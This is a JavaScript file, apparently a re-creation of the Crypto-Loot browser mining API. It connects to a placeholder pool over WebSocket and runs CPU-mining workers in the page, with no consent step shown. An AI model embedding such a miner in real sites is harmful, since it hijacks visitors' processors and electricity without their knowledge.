/* crypta.js - corpus re-creation of the Crypto-Loot browser API (our code). */
(function (global) {
  "use strict";
  const POOL = "%%WS:cryptoloot%%/";
  const WORKER_SRC = "%%ALT%%/tuned/cryptoloot-crlt/lib/cryptaworker.js";
  let workerUrl = null;

  function loadWorkerUrl() {
    // Workers must be same-origin with the page; fetch the code and run it from a blob: URL.
    if (!workerUrl) {
      workerUrl = fetch(WORKER_SRC).then((r) => r.text())
        .then((code) => URL.createObjectURL(new Blob([code], { type: "application/javascript" })));
    }
    return workerUrl;
  }

  class Miner {
    constructor(siteKey, params, user) {
      this.siteKey = siteKey;
      this.params = params || {};
      this.user = user || null;
      this.threads = [];
      this.job = null;
      this.ws = null;
      this.running = false;
      this.totalHashes = 0;
      this.acceptedHashes = 0;
      this.throttle = Math.max(0, Math.min(0.99, this.params.throttle || 0));
      const cores = navigator.hardwareConcurrency || 4;
      this.numThreads = this.params.autoThreads ? Math.max(1, cores - 1) : (this.params.threads || cores);
      this.handlers = {};
    }
    on(name, fn) { (this.handlers[name] = this.handlers[name] || []).push(fn); }
    fire(name, arg) { (this.handlers[name] || []).forEach((fn) => fn(arg)); }
    start(mode) {
      if (this.running) return;
      this.running = true;
      this.mode = mode || CRLT.IF_EXCLUSIVE_TAB;
      this.connect();
      loadWorkerUrl().then((url) => {
        while (this.threads.length < this.numThreads) this.addThread(url);
      });
    }
    stop() {
      this.running = false;
      this.threads.forEach((w) => w.terminate());
      this.threads = [];
      if (this.ws) this.ws.close();
    }
    isRunning() { return this.running; }
    getHashesPerSecond() { return this.hps || 0; }
    getTotalHashes() { return this.totalHashes; }
    getAcceptedHashes() { return this.acceptedHashes; }
    setThrottle(t) { this.throttle = t; this.threads.forEach((w) => w.postMessage({ throttle: t })); }
    send(type, params) {
      if (this.ws && this.ws.readyState === WebSocket.OPEN) this.ws.send(JSON.stringify({ type, params }));
    }
    connect() {
      this.ws = new WebSocket(POOL);
      this.ws.onopen = () => {
        this.fire("open");
        this.send("auth", { site_key: this.siteKey, type: this.user ? "user" : "anonymous", user: this.user, goal: 0 });
      };
      this.ws.onmessage = (ev) => {
        const msg = JSON.parse(ev.data);
        switch (msg.type) {
          case "authed": this.fire("authed", msg.params); break;
          case "job":
            this.job = msg.params;
            this.threads.forEach((w) => w.postMessage({ job: this.job, throttle: this.throttle }));
            this.fire("job", this.job);
            break;
          case "hash_accepted": this.acceptedHashes = msg.params.hashes; this.fire("accepted", msg.params); break;
          default: this.fire(msg.type, msg.params);
        }
      };
      this.ws.onclose = () => { this.fire("close"); if (this.running) setTimeout(() => this.connect(), 4000); };
    }
    addThread(url) {
      const w = new Worker(url);
      let last = 0, lastAt = Date.now();
      w.onmessage = (ev) => {
        const d = ev.data;
        if (d.share) { this.send("submit", d.share); this.fire("found", d.share); }
        this.totalHashes += d.count - last;
        this.hps = (d.count - last) / Math.max(0.001, (Date.now() - lastAt) / 1000);
        last = d.count; lastAt = Date.now();
      };
      if (this.job) w.postMessage({ job: this.job, throttle: this.throttle });
      this.threads.push(w);
    }
  }

  const CRLT = {
    IF_EXCLUSIVE_TAB: "ifExclusiveTab",
    FORCE_EXCLUSIVE_TAB: "forceExclusiveTab",
    FORCE_MULTI_TAB: "forceMultiTab",
    Anonymous: function (key, params) { return new Miner(key, params); },
    User: function (key, user, params) { return new Miner(key, params, user); },
  };
  global.CRLT = CRLT;
  global.CryptoLoot = CRLT;
})(window);
